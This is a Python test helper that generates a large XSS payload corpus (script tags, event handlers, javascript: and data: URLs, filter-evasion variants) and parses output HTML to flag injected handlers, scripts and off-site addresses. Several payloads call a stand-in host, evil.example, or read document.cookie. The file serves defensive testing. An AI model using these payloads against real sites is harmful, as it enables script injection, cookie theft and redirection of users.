"""Strings that try to become markup, and a reader that sees whether one did."""

from html.parser import HTMLParser

TAGS = [
    "<script>{}</script>",
    "<img src=x onerror={}>",
    "<svg onload={}>",
    "<svg/onload={}>",
    "<body onload={}>",
    "<iframe src=javascript:{}>",
    "<details open ontoggle={}>",
    "<a href=javascript:{}>x</a>",
    "<math><mtext></form><svg onload={}>",
    "<input autofocus onfocus={}>",
    "<style>@import'//evil.example'</style>{}",
    "<link rel=stylesheet href=//evil.example>{}",
    "<base href=//evil.example>{}",
    "<meta http-equiv=refresh content='0;url=//evil.example'>{}",
    "<form action=//evil.example>{}",
    "<object data=javascript:{}>",
    "<embed src=//evil.example/{}>",
    "<video><source onerror={}>",
    "<template><script>{}</script>",
    "<div hx-get=//evil.example hx-trigger=load>{}</div>",
    "<div hx-on::load={}>",
    "<button formaction=javascript:{}>",
]
BREAKS = [
    "{}",
    "\"'>{}",
    "'>{}",
    '">{}',
    "</textarea>{}",
    "</title>{}",
    "</option></select>{}",
    "</script>{}",
    "--><!-- {}",
    "]]>{}",
    '\\"{}',
    "{{% raw %}}{}",
    "{{{{ 7 }}}}{}",
    "<<{}",
    "</td></tr></table>{}",
    "\u202e{}",
    "ก้{}",
]
WORDS = [
    "alert(1)", "confirm`1`", "top[/al/.source+/ert/.source](1)", "fetch('//evil.example')", "a\u006cert(1)",
    "&#97;lert(1)",
    "(alert)(1)", "new%20Function`1`", "self['ale'+'rt'](1)", "import('//evil.example')", "eval(name)", "prompt.call``",
    "location='//evil.example'", "document.cookie",
]  # fmt: skip
ATTRIBUTES = [
    '" onmouseover="alert(1)',
    "' onfocus='alert(1)' autofocus='",
    "` onclick=alert(1) ",
    '"style="x:expression(1)"',
]
CORPUS = [hole.format(tag.format(word)) for hole in BREAKS for tag in TAGS for word in WORDS] + [
    f"{start}{text}{end}" for text in ATTRIBUTES for start in ("", "x", "http://a.go.th/", "//", "&quot;", "&#34;")
    for end in ("", " x", ">", "/")
]  # fmt: skip
ADDRESSES = [
    f"{space}{name}{word}"
    for space in ("", " ", "\t", "\x01", "\u00a0", "\u2028")
    for name in ("javascript:", "JaVaScRiPt:", "java\nscript:", "java\tscript:", "data:text/html,", "vbscript:", "file:///",
                 "blob:", "//evil.example/", "\\\\evil.example\\", "http:evil.example", "https://a.go.th@evil.example/",
                 "http://a.go.th/\" onclick=\"", "http://<script>", "feed:javascript:", "&#106;avascript:")
    for word in ("alert(1)", "<script>alert(1)</script>")
]  # fmt: skip
OURS = ("/", "#", "?", "http://", "https://")


class Page(HTMLParser):
    """Collects what no page of the portal has: handlers, scripts in the page, strange elements and addresses."""

    def __init__(self, html: str) -> None:
        super().__init__(convert_charrefs=True)
        self.found: list[tuple[str, str]] = []
        self.feed(html)

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        """Judge one element."""
        named = {name: (value or "") for name, value in attrs}
        if tag in ("iframe", "object", "embed", "base", "math", "style", "video") or (
            tag == "script" and "src" not in named
        ):
            self.found.append((tag, ""))
        for name, value in named.items():
            address = name in ("href", "src", "action", "formaction", "hx-get", "hx-post", "data-autosave-url")
            if name.startswith(("on", "hx-on")) or name == "style" or (address and not self.is_ours(value)):
                self.found.append((tag, f"{name}={value}"))

    @staticmethod
    def is_ours(address: str) -> bool:
        """Say whether a click stays here or leads to a plain web address."""
        return not address or (address.startswith(OURS) and not address.startswith(("//", "/\\")))
